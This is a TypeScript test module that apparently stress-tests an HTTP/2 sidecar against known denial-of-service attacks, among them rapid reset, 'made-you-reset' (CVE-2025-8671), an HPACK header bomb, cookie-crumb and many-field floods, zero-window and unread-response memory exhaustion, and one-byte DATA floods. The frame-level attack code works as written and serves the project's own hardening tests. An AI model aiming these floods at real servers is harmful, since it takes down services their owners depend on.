import { FRAME } from '../../../sidecar/http2/frame.ts';
import { frame, uint32 } from '../../fakes/raw-http2-peer.ts';
import type { Attack } from '../attack.ts';
import { beginHttp2, headers, literal, sendWithoutEnd, streamIds } from '../http2-bytes.ts';

const CONNECTIONS = 20;

/** What one connection may make a sidecar hold, by docs/hardening.md. */
const MAX_CONNECTION_MIB = 32;

type Options = Pick<Attack, 'ends'> & Partial<Pick<Attack, 'seconds' | 'memoryMib'>>;

/** Streams without end, each with these frames. */
function streamFlood(
  name: string,
  what: string,
  frames: (streamId: number) => readonly Buffer[],
  options: Options = { ends: 'cut' },
): Attack {
  return {
    name: `h2-${name}`,
    what: `${CONNECTIONS} connections, ${what}`,
    seconds: 10,
    ...options,
    start: (target) =>
      target.keep(CONNECTIONS, 'plain', (connection) => {
        connection.resume();
        beginHttp2(connection);
        const nextId = streamIds();
        sendWithoutEnd(connection, () => Buffer.concat(frames(nextId())));
      }),
  };
}

const reset = (id: number): Buffer => frame(FRAME.resetStream, 0, id, uint32(8));
const bomb = [
  literal('x', 'y'.repeat(4_000), true),
  // Each byte stands for the 4,000 before.
  Buffer.alloc(8_000, 0x80 | 62),
];
const crumbs = Array.from({ length: 1_500 }, () => literal('cookie', 'a=b'));
const fields = Array.from({ length: 1_500 }, (_, i) => literal(`x-${i}`, ''));

export const streamFloods: readonly Attack[] = [
  streamFlood('rapid-reset', 'requests that are taken back', (id) => [headers(id), reset(id)]),
  // CVE-2025-8671: we have to end the stream, and the application is asked in vain.
  streamFlood('made-you-reset', 'requests that we have to reset', (id) => [
    headers(id, { post: true }),
    frame(FRAME.windowUpdate, 0, id, uint32(0)),
  ]),
  streamFlood('made-you-reset-length', 'bodies longer than they say', (id) => [
    headers(id, { post: true, more: [literal('content-length', '1')] }),
    frame(FRAME.data, 0, id, 'xx'),
  ]),
  streamFlood('refused-streams', 'uploads that never end', (id) => [headers(id, { post: true })]),
  streamFlood('malformed', 'requests that are none', (id) => [
    headers(id, { more: [literal('Upper', 'case')] }),
  ]),
  streamFlood('hpack-bomb', 'heads of 32 MB in 12 KB', (id) => [headers(id, { more: bomb })]),
  streamFlood('cookie-crumbs', '1,500 crumbs of a cookie', (id) => [headers(id, { more: crumbs })]),
  streamFlood('many-fields', 'heads of 1,500 fields', (id) => [headers(id, { more: fields })]),
  streamFlood('late-data', 'data on streams that are over', (id) => [
    headers(id),
    reset(id),
    ...Array.from({ length: 100 }, () => frame(FRAME.data, 0, id, 'x')),
  ]),
  streamFlood(
    'requests',
    'requests as fast as they are taken',
    (id) => [headers(id), frame(FRAME.windowUpdate, 0, 0, uint32(3))],
    { ends: 'cut' },
  ),
];

/** Asks for responses without end, and gives no window for them. */
export const zeroWindows: Attack = {
  name: 'h2-zero-window',
  what: '10 connections, 100 responses without end each, no window',
  seconds: 75,
  ends: 'cut',
  memoryMib: 10 * MAX_CONNECTION_MIB,
  start: (target) =>
    target.keep(10, 'plain', (connection) => {
      connection.resume();
      beginHttp2(connection, 0);
      for (let id = 1; id < 200; id += 2) connection.write(headers(id, { path: '/huge' }));
    }),
};

/** The same with all the window there is, of which nothing is read. */
export const unreadResponses: Attack = {
  name: 'h2-unread',
  what: '10 connections, 100 responses without end each, none read',
  seconds: 75,
  ends: 'cut',
  memoryMib: 10 * MAX_CONNECTION_MIB,
  start: (target) =>
    target.keep(10, 'plain', (connection) => {
      beginHttp2(connection, 0x7fff_ffff);
      connection.write(frame(FRAME.windowUpdate, 0, 0, uint32(0x7fff_0000 - 65_535)));
      for (let id = 1; id < 200; id += 2) connection.write(headers(id, { path: '/huge' }));
      // Who reads nothing learns by writing that he was cut.
      const more = (): unknown => connection.write(frame(FRAME.windowUpdate, 0, 0, uint32(1)));
      const timer = setInterval(more, 2_000);
      connection.once('close', () => clearInterval(timer));
    }),
};

/** Uploads in pieces of one byte: much work for little body. */
export const tinyData: Attack = {
  name: 'h2-tiny-data',
  what: '20 connections, DATA of one byte without end',
  seconds: 15,
  ends: 'held',
  memoryMib: 96,
  start: (target) =>
    target.keep(CONNECTIONS, 'plain', (connection) => {
      connection.resume();
      beginHttp2(connection);
      connection.write(headers(1, { post: true }));
      sendWithoutEnd(connection, () => frame(FRAME.data, 0, 1, 'x'));
    }),
};
